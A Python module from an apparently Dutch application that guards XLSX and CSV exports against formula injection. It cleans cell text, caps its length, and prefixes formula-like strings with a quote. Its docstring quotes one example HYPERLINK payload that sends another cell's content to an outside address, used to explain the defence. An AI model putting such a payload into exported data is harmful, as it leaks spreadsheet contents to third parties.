"""Text as text in a spreadsheet: no formula, no character a spreadsheet refuses.

A name, school or note that starts with "=", "+", "-" or "@" (or a tab or carriage return) is a
formula to Excel and LibreOffice when it lands in a cell: `=HYPERLINK("http://…?"&A1;"Klik hier")`
in a school name becomes a link that sends another cell's content away (CSV/formula injection,
OWASP). Every XLSX and CSV export passes its values through here:

- `xlsx_tekst(s)`: the text for an openpyxl cell, cleaned of characters XML (and so XLSX) cannot
  hold and cut to Excel's 32,767 characters per cell. The XLSX writer (reports/xlsx.py) then marks
  the cell as a string (data type "s", "quotePrefix" style), so even "=1+1" is shown as text and
  stays text when the cell is edited.
- `csv_waarde(v)`: for a CSV cell. A CSV has no cell types, so text that a spreadsheet would read
  as a formula gets a single quote in front ("'=1+1"), as OWASP advises. Text that itself starts
  with a quote gets one too, so the rule can be undone exactly (the audit CSV carries hashes over
  the stored text): remove one leading "'" from a value that has one. Nothing else is changed (a
  CSV can hold any character). Numbers (also negative ones) stay numbers; only strings are touched.
"""

from __future__ import annotations

from jet_desktop.domain.tekst import schoon

FORMULE_BEGIN = ("=", "+", "-", "@", "\t", "\r")
# Excel's limit per cell; longer text makes Excel "repair" (cut) the file
XLSX_MAX_CEL = 32_767


def is_formule_achtig(tekst: str) -> bool:
    """True when a spreadsheet could read `tekst` as a formula: its first character, or its first
    after leading spaces (some spreadsheets skip them), is one of = + - @ tab CR; also the
    full-width ＝ ＋ － ＠ that Excel's Asian input maps to them."""
    if not tekst:
        return False
    eerste = tekst.lstrip(" \u00a0")[:1] or tekst[0]
    return tekst[0] in FORMULE_BEGIN or eerste in FORMULE_BEGIN or eerste in "\uff1d\uff0b\uff0d\uff20"


def xlsx_tekst(tekst: str) -> str:
    """`tekst` as it can go into an XLSX cell (the writer marks it as a string)."""
    return schoon(tekst, XLSX_MAX_CEL)


def csv_waarde(waarde):
    """A value for csv.writer: a formula-like string (or one starting with "'") prefixed with "'"."""
    if not isinstance(waarde, str):
        return waarde
    return "'" + waarde if waarde.startswith("'") or is_formule_achtig(waarde) else waarde


def csv_rij(waarden) -> list:
    return [csv_waarde(v) for v in waarden]
